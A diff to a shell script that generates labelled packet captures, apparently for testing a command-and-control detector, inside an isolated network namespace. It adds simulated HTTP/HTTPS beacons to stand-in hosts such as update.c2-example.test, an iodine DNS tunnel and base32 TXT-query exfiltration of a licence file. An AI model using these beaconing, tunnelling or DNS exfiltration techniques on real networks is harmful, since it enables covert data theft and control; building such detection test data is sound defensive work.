@@ -5,12 +5,17 @@
 #        OUT_DIR=DIR pcaps/make.sh ...          (write somewhere else than pcaps/)
 #
 # Everything runs inside a private network namespace (c2tap-pcaps) on its loopback: dnsmasq
-# answers DNS on 127.0.0.1:53 from local records only (nothing is forwarded anywhere), dig,
+# answers DNS on 127.0.0.1:53 from local records only (nothing is forwarded anywhere but the
+# one tunnel domain, to iodined on 127.0.0.7 in the same namespace), dig,
 # curl and glibc's stub resolver ask it, python3's http.server answers HTTP on 127.0.0.2:8080,
 # the stand-ins of start_servers (pcaps/server.py over HTTP and TLS, openssl s_server on 7844,
 # pcaps/connect-proxy.py, a silent UDP 443) answer curl, openssl s_client and headless
-# Chromium, and tcpdump records lo. At the end scripts/derive-pcaps.py rewrites some of the
-# captures into the hard cases (reordering, conflicting retransmissions, ...). Loopback's MTU is set to 1500 and its segmentation/receive
+# Chromium, and tcpdump records lo. The behavioural captures (beacons, a long-held TLS
+# connection, an iodine DNS tunnel, TXT exfiltration, benign browsing) run pcaps/clients.py,
+# curl, dig and iodine against the same stand-ins; the beacons, made at a 1 s base interval,
+# are then stretched by scripts/timescale-pcap.py (SCALE_FACTOR, SCALE_THRESHOLD). At the end
+# scripts/derive-pcaps.py rewrites some of the captures into the hard cases (reordering,
+# conflicting retransmissions, ...). Loopback's MTU is set to 1500 and its segmentation/receive
 # offloads are switched off so the captures look like what a NIC would show (one packet per
 # wire segment), not 64 KiB super-packets. Transmit checksums on lo cannot be switched off:
 # TCP/UDP checksums in these files are not valid (checksum offload, as on most real captures).
@@ -19,6 +24,8 @@
 # it. Query IDs, source ports and times change from run to run; the set and order of questions,
 # requests and connections does not (every dig is sent once: +tries=1, and dnsmasq answers
 # locally at once); only the number of Chromium's QUIC retransmissions within its 2 s varies.
+# The sleeps, body sizes and names of the behavioural captures come from fixed seeds, so they
+# are the same every run; the iodine tunnel's polling and fragment counts vary a little.
 # See pcaps/README.md for what each file holds and which names are expected to alert.
 set -euo pipefail
 
@@ -26,13 +33,30 @@ NS=c2tap-pcaps
 HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
 OUT_DIR=${OUT_DIR:-$HERE}
 CAPTURES=(dns_tunnels dns_benign dns_tcp http_curl http_keepalive tls_curl tls_h2_7844 connect_proxy
-          chromium_tls chromium_quic)
+          chromium_tls chromium_quic
+          beacon_http beacon_https beacon_keepalive longpoll_tls dns_iodine dns_txt_exfil
+          benign_browsing benign_cdn)
+# The beacons are captured at a 1 s base interval, then every gap longer than SCALE_THRESHOLD
+# seconds (the sleeps between check-ins) is multiplied by SCALE_FACTOR: 1 s becomes 60 s.
+# RAW_DIR=DIR also keeps the unscaled captures there.
+SCALE_FACTOR=${SCALE_FACTOR:-60}
+SCALE_THRESHOLD=${SCALE_THRESHOLD:-0.3}
+RAW_DIR=${RAW_DIR:-}
+# The iodine client's tun device is moved here (see capture_dns_iodine).
+TUN_NS=c2tap-pcaps-tun
+# The registered domains of the benign captures (each a --local zone, all names under it one
+# address): a handful of sites for benign-browsing, fifteen for benign-cdn.
+BROWSE_HTTP=(www.news-example.test www.wiki-example.test forum.hobby-example.test)
+BROWSE_HTTPS=(www.shop-example.test mail.webmail-example.test)
+CDN_DOMAINS=(newsportal.test shopcart.test videohub.test socialfeed.test searchly.test
+             mapsnow.test webfonts.test metrics-collect.test adserve.test edgecdn.test
+             fastassets.test streamly.test weatherly.test docsonline.test pixelcloud.test)
 
 log() { printf 'make.sh: %s\n' "$*" >&2; }
 die() { log "$*"; exit 1; }
 
 [ "$(id -u)" -eq 0 ] || die "run as root (network namespaces, tcpdump): sudo $0"
-for tool in ip ethtool dnsmasq tcpdump dig curl python3 openssl chromium; do
+for tool in ip ethtool dnsmasq tcpdump dig curl python3 openssl chromium iodine iodined; do
     command -v "$tool" >/dev/null || die "$tool not found: run scripts/install-deps.sh pcaps"
 done
 
@@ -53,6 +77,7 @@ cleanup() {
         wait "$pid" 2>/dev/null
     done
     ip netns del "$NS" 2>/dev/null || true
+    ip netns del "$TUN_NS" 2>/dev/null || true
     rm -rf "/etc/netns/$NS" "$WORK"
 }
 trap cleanup EXIT
@@ -79,6 +104,19 @@ setup_ns() {
 # authority there, so a type it has no record for gets NOERROR/no data (not REFUSED). Names
 # under no --local domain are REFUSED (there is no upstream), /example.org/ gives NXDOMAIN.
 start_dnsmasq() {
+    # The benign captures' domains: 127.0.0.50.. for the browsing sites, 127.0.0.60.. for
+    # the CDN ones, one address per registered domain.
+    local benign=() d i=50
+    for d in "${BROWSE_HTTP[@]}" "${BROWSE_HTTPS[@]}"; do
+        d=${d#*.}
+        benign+=("--local=/$d/" "--address=/$d/127.0.0.$i")
+        i=$((i + 1))
+    done
+    i=60
+    for d in "${CDN_DOMAINS[@]}"; do
+        benign+=("--local=/$d/" "--address=/$d/127.0.0.$i")
+        i=$((i + 1))
+    done
     ip netns exec "$NS" dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-poll \
         --listen-address=127.0.0.1 --bind-interfaces --port=53 \
         --user=root --group=root --pid-file="$WORK/dnsmasq.pid" \
@@ -99,6 +137,12 @@ start_dnsmasq() {
         --cname=debian.map.fastlydns.net,prod.debian.map.fastlydns.net \
         --cname=www.debian.org,debian.map.fastlydns.net \
         --local=/example.org/ \
+        --local=/c2-example.test/ --address=/update.c2-example.test/127.0.0.40 \
+        --address=/api.c2-example.test/127.0.0.41 --address=/sync.c2-example.test/127.0.0.42 \
+        --address=/push.c2-example.test/127.0.0.43 \
+        --local=/exfil-example.test/ \
+        --local=/tunnel-example.test/ --server=/t.tunnel-example.test/127.0.0.7 \
+        "${benign[@]}" \
         2>"$WORK/dnsmasq.err" &
     DNSMASQ_PID=$!
     for _ in $(seq 50); do
@@ -163,7 +207,17 @@ s.bind(("0.0.0.0", 443))
 while True:
     s.recv(65536)' >"$WORK/udp443.log" 2>&1 &
     SERVER_PIDS+=($!)
+    # The behavioural captures' servers: server.py as HTTP/1.1 on *:80, and openssl s_server
+    # -rev (it answers each line with the line reversed) on 127.0.0.43:8443.
+    ip netns exec "$NS" python3 "$HERE/server.py" 0.0.0.0 80 >"$WORK/server-http80.log" 2>&1 &
+    SERVER_PIDS+=($!)
+    mkfifo "$WORK/s_server_rev.in"
+    ip netns exec "$NS" openssl s_server -accept 127.0.0.43:8443 -cert "$WORK/cert.pem" \
+        -key "$WORK/key.pem" -rev -quiet <>"$WORK/s_server_rev.in" >"$WORK/s_server_rev.log" 2>&1 &
+    SERVER_PIDS+=($!)
     wait_tcp 127.0.0.3 8080
+    wait_tcp 127.0.0.40 80
+    wait_tcp 127.0.0.43 8443
     wait_tcp 127.0.0.2 443
     wait_tcp 127.0.0.2 7844
     wait_tcp 127.0.0.5 3128
@@ -176,9 +230,10 @@ capture_start() {
     : >"$WORK/tcpdump.err"
     # -Z root: Debian's tcpdump otherwise drops to its own user, which cannot write $WORK.
     # --immediate-mode: without it libpcap hands packets over in blocks once a second, and
-    # the packets of the last block would be lost when tcpdump is stopped.
+    # the packets of the last block would be lost when tcpdump is stopped. -B 32768: a 32 MiB
+    # kernel buffer (the default 2 MiB dropped packets of the iodine tunnel's bursts).
     # shellcheck disable=SC2086 # the filter is several words
-    ip netns exec "$NS" tcpdump -i lo -w "$WORK/$CURRENT.pcap" -s 0 -U -Z root --immediate-mode \
+    ip netns exec "$NS" tcpdump -i lo -B 32768 -w "$WORK/$CURRENT.pcap" -s 0 -U -Z root --immediate-mode \
         $filter 2>"$WORK/tcpdump.err" &
     TCPDUMP_PID=$!
     for _ in $(seq 100); do
@@ -343,6 +398,154 @@ capture_chromium_quic() {
     for host in region1.v2.argotunnel.com abc123-8080.usw2.devtunnels.ms; do
         chromium_run 2 --enable-quic --origin-to-force-quic-on="$host:443" "https://$host/"
     done
+    capture_stop
+}
+
+# --- Behavioural captures: beacons, a long-held connection, DNS tunnels, benign near-misses ---
+
+# scale NAME: NAME.pcap in OUT_DIR becomes the raw capture with every gap longer than
+# SCALE_THRESHOLD s multiplied by SCALE_FACTOR (the raw one is kept in RAW_DIR when set).
+scale() {
+    python3 "$HERE/../scripts/timescale-pcap.py" --factor "$SCALE_FACTOR" \
+        --threshold "$SCALE_THRESHOLD" "$WORK/$1.pcap" "$OUT_DIR/$1.pcap"
+    [ -n "${SUDO_UID:-}" ] && chown "$SUDO_UID:${SUDO_GID:-$SUDO_UID}" "$OUT_DIR/$1.pcap"
+    if [ -n "$RAW_DIR" ]; then
+        mkdir -p "$RAW_DIR"
+        install -m 0644 "$WORK/$1.pcap" "$RAW_DIR/$1.pcap"
+    fi
+    log "$1: gaps over ${SCALE_THRESHOLD}s scaled x$SCALE_FACTOR"
+}
+
+# An HTTP beacon: 60 check-ins, each a new curl (glibc's stub asks A and AAAA, a new TCP
+# connection, one POST of 200..260 bytes), then a sleep of 1 s +-20% (uniform).
+capture_beacon_http() {
+    mkdir -p "$WORK/beacon-http"
+    python3 "$HERE/clients.py" beacon-plan 60 1 0.2 200 260 1 "$WORK/beacon-http" >"$WORK/beacon-http.plan"
+    capture_start beacon-http
+    local gap body
+    while read -r gap body; do
+        in_ns curl -sS -o /dev/null -H 'Content-Type: application/octet-stream' \
+            --data-binary @"$body" http://update.c2-example.test/submit.php
+        sleep "$gap"
+    done <"$WORK/beacon-http.plan"
+    capture_stop
+    scale beacon-http
+}
+
+# The same over HTTPS (curl -k to server.py's TLS on 127.0.0.41:443), its own seed.
+capture_beacon_https() {
+    mkdir -p "$WORK/beacon-https"
+    python3 "$HERE/clients.py" beacon-plan 60 1 0.2 200 260 2 "$WORK/beacon-https" >"$WORK/beacon-https.plan"
+    capture_start beacon-https
+    local gap body
+    while read -r gap body; do
+        in_ns curl -sS -k -o /dev/null -H 'Content-Type: application/octet-stream' \
+            --data-binary @"$body" https://api.c2-example.test/api/v1/status
+        sleep "$gap"
+    done <"$WORK/beacon-https.plan"
+    capture_stop
+    scale beacon-https
+}
+
+# A beacon that keeps one HTTP/1.1 connection: 60 POSTs on it, 1 s +-20% apart.
+capture_beacon_keepalive() {
+    capture_start beacon-keepalive
+    in_ns python3 "$HERE/clients.py" keepalive sync.c2-example.test 80 60 1 0.2 200 260 3
+    capture_stop
+    scale beacon-keepalive
+}
+
+# One TLS connection held for ~90 s: 90 heartbeat lines of 50..100 bytes, 1 s +-10% apart,
+# each answered by openssl s_server -rev.
+capture_longpoll_tls() {
+    capture_start longpoll-tls
+    in_ns python3 "$HERE/clients.py" longpoll push.c2-example.test 8443 90 1 0.1 50 100 4
+    capture_stop
+    scale longpoll-tls
+}
+
+# An iodine DNS tunnel. iodined is authoritative for t.tunnel-example.test on 127.0.0.7:53
+# (tun iod0, 198.18.53.1/27); the client asks dnsmasq, which forwards that domain to it. Both
+# tun devices cannot live in one namespace (the kernel would deliver the tunnel's packets
+# locally, never through the tunnel), so once the tunnel is up the client's tun (iod1) is moved
+# to a second namespace ($TUN_NS) and given 198.18.53.2 there; the iodine process stays in
+# $NS and keeps its DNS on lo. -r: no raw UDP mode, DNS only. Through it: 512 KiB up (client to
+# server), then 2 MiB down, pseudo-random (iodine compresses). Only the client's leg (to and from
+# 127.0.0.1:53) is recorded: what a sensor between a host and its resolver sees.
+capture_dns_iodine() {
+    local pass=c2tap-iodine pid
+    ip netns del "$TUN_NS" 2>/dev/null || true
+    ip netns add "$TUN_NS"
+    ip -n "$TUN_NS" link set lo up
+    ip netns exec "$NS" iodined -f -c -P "$pass" -l 127.0.0.7 -p 53 -d iod0 198.18.53.1/27 \
+        t.tunnel-example.test >"$WORK/iodined.log" 2>&1 &
+    SERVER_PIDS+=($!)
+    for _ in $(seq 50); do
+        grep -q 'Listening to dns' "$WORK/iodined.log" && break
+        sleep 0.1
+    done
+    ip netns exec "$NS" python3 "$HERE/clients.py" tunnel-server 198.18.53.1 5001 2097152 5 \
+        >"$WORK/tunnel-server.log" 2>&1 &
+    SERVER_PIDS+=($!)
+    capture_start dns-iodine 'not host 127.0.0.7'
+    ip netns exec "$NS" iodine -f -r -P "$pass" -d iod1 127.0.0.1 t.tunnel-example.test \
+        >"$WORK/iodine.log" 2>&1 &
+    pid=$!
+    SERVER_PIDS+=("$pid")
+    for _ in $(seq 300); do
+        grep -q 'Connection setup complete' "$WORK/iodine.log" && break
+        kill -0 "$pid" 2>/dev/null || break
+        sleep 0.1
+    done
+    grep -q 'Connection setup complete' "$WORK/iodine.log" || { cat "$WORK/iodine.log" >&2; die "iodine did not connect"; }
+    ip -n "$NS" link set iod1 netns "$TUN_NS"
+    ip -n "$TUN_NS" addr add 198.18.53.2/27 dev iod1
+    ip -n "$TUN_NS" link set iod1 mtu 1130 up
+    ip netns exec "$TUN_NS" python3 "$HERE/clients.py" tunnel-client 198.18.53.1 5001 524288 6 >&2
+    kill "$pid"
+    wait "$pid" 2>/dev/null || true
+    capture_stop
+    grep -E 'codec|fragment size|lazy' "$WORK/iodine.log" | sed 's/^/make.sh: iodine: /' >&2
+    ip netns del "$TUN_NS"
+}
+
+# TXT exfiltration: /usr/share/common-licenses/GPL-3 (35149 bytes, in every Debian) in base32,
+# 180 characters a question (D1.D2.D3.NNNN.x.exfil-example.test TXT), one dig -f, one
+# question at a time; exfil-example.test is an empty local zone, every answer is NXDOMAIN.
+capture_dns_txt_exfil() {
+    python3 "$HERE/clients.py" exfil-names /usr/share/common-licenses/GPL-3 x.exfil-example.test \
+        >"$WORK/exfil.batch"
+    capture_start dns-txt-exfil
+    in_ns dig @127.0.0.1 +tries=1 +time=2 -f "$WORK/exfil.batch" >>"$WORK/dig.log" 2>&1
+    capture_stop
+}
+
+# Benign browsing: 30 requests in page views (a page and up to 3 assets, one curl, one
+# keep-alive connection, HTTP or HTTPS by site) to five sites, Pareto-distributed pauses.
+capture_benign_browsing() {
+    python3 "$HERE/clients.py" browse-plan 7 "$(IFS=,; echo "${BROWSE_HTTP[*]}")" \
+        "$(IFS=,; echo "${BROWSE_HTTPS[*]}")" >"$WORK/browse.plan"
+    capture_start benign-browsing
+    local gap urls args u
+    while read -r gap urls; do
+        args=()
+        for u in $urls; do args+=(-o /dev/null "$u"); done
+        in_ns curl -sS -k "${args[@]}"
+        sleep "$gap"
+    done <"$WORK/browse.plan"
+    capture_stop
+}
+
+# Benign CDN-heavy browsing: 100+ names under fifteen registered domains, each resolved and
+# fetched once or twice (a new curl each time), 0.05..0.4 s apart.
+capture_benign_cdn() {
+    python3 "$HERE/clients.py" cdn-plan 8 "${CDN_DOMAINS[@]}" >"$WORK/cdn.plan"
+    capture_start benign-cdn
+    local gap url
+    while read -r gap url; do
+        in_ns curl -sS -k -o /dev/null "$url"
+        sleep "$gap"
+    done <"$WORK/cdn.plan"
     capture_stop
 }
 
